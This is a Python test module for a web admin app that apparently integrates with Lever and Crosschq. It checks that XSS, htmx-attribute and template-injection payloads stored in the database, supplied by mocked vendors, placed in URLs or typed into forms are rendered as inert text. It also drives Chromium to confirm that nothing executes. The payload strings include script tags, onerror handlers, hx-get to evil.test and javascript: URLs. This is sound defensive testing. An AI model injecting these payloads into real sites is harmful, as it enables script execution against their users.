"""Hostile text in everything that is stored, offered by a vendor or typed: no page makes markup or script of it."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

import httpx
import pytest
from playwright.async_api import async_playwright
from sqlalchemy import update

from pages.admin.rendering import own_path
from sandbox.crosschq.surveys import Bounds
from sandbox.serve import Server, address, listen
from store.attempts import Attempt
from store.connections import Endpoints
from store.effects import Effects
from store.outcome_tables import FollowUp
from store.people_tables import PagePerson
from store.prospect_tables import ProspectSettings
from store.tables import (
    Audit,
    Connection,
    Delivery,
    Effect,
    ReferenceRequest,
    RequestTemplate,
    WebhookEndpoint,
)
from tests.journeys.conftest import CHROMIUM, QUIET
from tests.onboarding.conftest import vendors
from tests.onboarding.desk import Vendors
from tests.pages.admin.browser import PASSWORD
from tests.pages.admin.conftest import Pages
from tests.pages.admin.siege import House, a_few, open_house, send

__all__ = ["vendors"]

MARKUP = (
    "</textarea></title></option></script><script>alert(1)</script>"
    "<img src=x onerror=alert(2)><svg onload=alert(3)><base href=//evil.test><meta http-equiv=refresh>"
    "zq{{7*7}}qz{% raw %}zq${7*7}qz<%= 7*7 %>zq#{7*7}qz"
)
ATTRIBUTES = (
    " pwned onfocus=alert(4) onload='alert(5)' style='x' hx-get=https://evil.test hx-trigger=load "
    "hx-on:click=alert(6) data-hx-on:load=alert(7) hx-vals='js:{a:alert(8)}' pwned="
)
PAYLOADS = {
    "double": f"""\"{ATTRIBUTES}\">{MARKUP}""",
    "single": f"""'{ATTRIBUTES}'>{MARKUP}'-alert(9)-'""",
    "link": "javascript:alert(10)//",
}
FORBIDDEN = {"img", "svg", "base", "iframe", "object", "embed", "style"}
SCRIPTS = {"/static/htmx.min.js", "/static/admin.js"}


@dataclass
class Seen(HTMLParser):
    """What a browser would make of a page."""

    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    htmx: set[tuple[str, str]] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.tags.add(tag)
        self.attributes |= set(given)
        if tag == "script" and given.get("src") not in SCRIPTS:
            self.wrong.append("a script")
        for name, value in given.items():
            if name.startswith("on") or name == "style":
                self.wrong.append(f"{name}={value}")
            if name in ("href", "src", "action", "formaction", "hx-get", "hx-post") and not (
                value.startswith(("/", "#", "http://127.0.0.1", "https://")) and not value.startswith("//")
            ):
                self.wrong.append(f"{name}={value}")
            if name.startswith(("hx-", "data-hx-")):
                self.htmx.add((name, "a path" if name == "hx-get" and value.startswith("/") else value))


def seen_in(*texts: str) -> Seen:
    seen = Seen()
    for text in texts:
        seen.feed(text)
        seen.reset()
    return seen


def check(seen: Seen, harmless: Seen) -> None:
    """Nothing of the payload's, and of htmx what harmless pages have, too."""
    assert seen.wrong == []
    assert seen.tags & FORBIDDEN == set()
    assert seen.attributes & {"pwned", "srcdoc", "http-equiv"} == set()
    assert seen.htmx - harmless.htmx == set()


@pytest.fixture
async def house(pages: Pages, vendors: Vendors) -> AsyncIterator[House]:
    async with open_house(pages, vendors) as opened:
        yield opened


@pytest.fixture
async def harmless(house: House) -> Seen:
    texts = [(await house.admin.open(path)).text for path in await house.pages_to_look_at()]
    seen = seen_in(*texts, (await house.pages.open_browser().open("/sign-in")).text)
    check(seen, seen)
    return seen


async def store(house: House, text: str) -> None:
    """In every column that people or vendors have a say in."""
    async with house.pages.parts.database.transaction() as session:
        which = (await house.desk.endpoint()).id
        await Endpoints(session).note_rejection(which, text)
        effects, attempt = Effects(session), Attempt(house.ids["deliveries"], 1)
        await effects.intend(1, f"note:{text}", attempt)
        said: dict[type, tuple[str, ...]] = {
            Connection: ("name", "paused_because", "perform_as", "fallback_requestor", "fallback_asked"),
            RequestTemplate: ("description", "survey", "lever_tag"),
            Delivery: ("outcome", "opportunity_id", "flow_run_id", "event", "origin"),
            ReferenceRequest: ("template", "job_position", "problem"),
            Effect: ("result", "detail"),
            Audit: ("who", "what", "why"),
            FollowUp: ("asked_role", "ended_because", "flow_run_id"),
            ProspectSettings: ("source", "withdrawal_tag"),
        }
        for table, columns in said.items():
            await session.execute(update(table).values(dict.fromkeys(columns, text)))
        await session.execute(update(Connection).values(trigger_stages=[text], hired_reason=text))
        await session.execute(update(ProspectSettings).values(tags=[text]))
        await session.execute(update(RequestTemplate).values(counts={text: 1, "peers": 1}))
        await session.execute(update(Audit).values(subject=f"delivery:{house.ids['deliveries']}"))
        viewer = PagePerson.id == house.ids["people"]
        await session.execute(update(PagePerson).where(viewer).values(name=text))
        webhook = WebhookEndpoint.event == "snapshot"
        await session.execute(update(WebhookEndpoint).where(webhook).values(last_rejection=text))


def offer(house: House, text: str) -> None:
    """By the vendors: names of stages, users, postings, tags, reasons, surveys and candidates."""
    account = house.desk.lever_app.state.lever.account
    for several in (account.stages, account.postings, account.archive_reasons):
        for one in several.values():
            one.text = text
    for one in account.postings.values():
        one.tags = [*one.tags, text]
    for one in account.users.values():
        one.name = one.email = text
    for one in account.contacts.values():
        one.name = text
    for survey in house.desk.crosschq_app.state.organization.surveys.values():
        survey.name = text
        survey.relationships[text] = Bounds()


async def previews(house: House) -> list[str]:
    opportunities = house.desk.lever_app.state.lever.account.opportunities
    return [f"/preview?connection=1&opportunity={one}" for one in list(opportunities)[:3]]


@pytest.mark.parametrize("kind", a_few(PAYLOADS, 1))
async def test_what_is_stored_stays_text(house: House, harmless: Seen, kind: str) -> None:
    text = PAYLOADS[kind]
    await store(house, text)
    texts = []
    for path in await house.pages_to_look_at():
        for browser in (house.admin, house.viewer):
            answer = await browser.open(path)
            assert answer.status_code == 200, path
            texts.append(answer.text)
    check(seen_in(*texts), harmless)
    assert sum("alert" in one for one in texts) > 20
    assert not any("zq49qz" in one for one in texts)


@pytest.mark.parametrize("kind", a_few(PAYLOADS, 1))
async def test_what_vendors_offer_stays_text(house: House, harmless: Seen, kind: str) -> None:
    text = PAYLOADS[kind]
    paths = [
        "/connections/1/settings",
        "/connections/1/self-test?check=now",
        "/connections/1",
        *await previews(house),
    ]
    offer(house, text)
    texts = [(await house.admin.open(path)).text for path in paths]
    check(seen_in(*texts), harmless)
    assert "alert" in texts[0]
    assert not any("zq49qz" in one for one in texts)


def leads_home(answer: httpx.Response) -> bool:
    """Nowhere, or to a path of ours, in which every sign that could end it is quoted."""
    location = answer.headers.get("location", "/")
    return location == own_path(location) and not set(location) & set("<>\"'`{}")


@pytest.mark.parametrize("kind", a_few(PAYLOADS, 1))
async def test_what_an_address_says_stays_text(house: House, harmless: Seen, kind: str) -> None:
    text = PAYLOADS[kind]
    names = ("next", "connection", "event", "state", "opportunity", "older", "newer", "seen", "replayed")
    names += ("ended", "requests_after", "follow_ups_before", "check", "saved", "done", "code", "error")
    stranger = house.pages.open_browser()
    texts = []
    for path in [house.filled(one) for one in house.routes("GET") if one != "/static/{name}"]:
        for asked in (dict.fromkeys(names, text), {"opportunity": text}, {"ended": text}):
            for browser in (house.admin, stranger):
                answer = await browser.http.get(path, params=asked)
                assert answer.status_code < 500
                assert leads_home(answer)
                texts.append(answer.text)
    check(seen_in(*texts), harmless)
    assert not any("zq49qz" in one for one in texts)
    assert sum("alert" in one for one in texts) > 2


@pytest.mark.parametrize("kind", a_few(PAYLOADS, 1))
async def test_what_is_typed_comes_back_as_text(house: House, harmless: Seen, kind: str) -> None:
    text = PAYLOADS[kind]
    token = {"form_token": await house.admin.token_on("/")}
    texts = []
    for path, fields in (await house.good_forms()).items():
        if path in ("/sign-out", "/people/{id:int}/remove"):
            continue
        named = [name for name in fields if name not in ("act", "version")]
        nasty = dict.fromkeys(named, text)
        for sent in ({**fields, **nasty}, {**fields, **nasty, "why": ""}, {**nasty, "act": "templates.add"}):
            answer = await send(house.admin, house.filled(path), {**sent, **token})
            assert answer.status_code < 500, path
            texts.append(answer.text)
    strangers = house.pages.open_browser()
    texts.append((await strangers.sign_in(text, text, text)).text)
    check(seen_in(*texts), harmless)
    assert not any("zq49qz" in one for one in texts)
    assert sum("alert" in one for one in texts) > 8


@pytest.mark.parametrize("url", ["javascript:alert(1)//lever.co", "data:text/html,<script>alert(1)</script>"])
async def test_an_address_of_a_vendor_is_no_link_that_runs(house: House, harmless: Seen, url: str) -> None:
    async with house.pages.parts.database.transaction() as session:
        await session.execute(update(Connection).values(lever_url=url, crosschq_url=url))
        await session.execute(update(Delivery).values(opportunity_id=url))
    check(
        seen_in(*[(await house.admin.open(path)).text for path in await house.pages_to_look_at()]), harmless
    )


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium")
async def test_a_browser_runs_nothing_of_it_and_reports_no_breach_of_the_policy(house: House) -> None:
    offer(house, PAYLOADS["double"])
    await store(house, PAYLOADS["double"])
    listener, alarms = listen("127.0.0.1", 0), []
    host, port = address(listener)
    server = Server(house.pages.app)
    serving = asyncio.create_task(server.serve([listener]))
    await server.ready.wait()
    async with async_playwright() as playwright:
        chromium = await playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        page = await chromium.new_page()
        page.on(
            "dialog", lambda dialog: alarms.append(dialog.message) or asyncio.ensure_future(dialog.dismiss())
        )
        page.on("console", lambda said: alarms.append(said.text) if said.type == "error" else None)
        page.on("pageerror", lambda error: alarms.append(str(error)))
        page.on("request", lambda sent: None if f"{host}:{port}" in sent.url else alarms.append(sent.url))
        await page.goto(f"http://{host}:{port}/sign-in")
        await page.get_by_label("Name").fill("ada")
        await page.get_by_label("Password").fill(PASSWORD)
        await page.get_by_role("button", name="Sign in").click()
        await page.wait_for_url(f"http://{host}:{port}/")
        for path in [*await house.pages_to_look_at(), *(await previews(house))[:1]]:
            answer = await page.goto(f"http://{host}:{port}{path}", wait_until="load")
            assert answer
            assert answer.status in (200, 400), path
        breaches = list(alarms)
        inline = "document.body.append(Object.assign(document.createElement('script'), {text: 'pwned = 1'}))"
        await page.evaluate(inline)
        is_pwned = await page.evaluate("'pwned' in window")
        await chromium.close()
    server.should_exit = True
    await serving
    assert breaches == []
    assert not is_pwned
    assert len(alarms) == 1
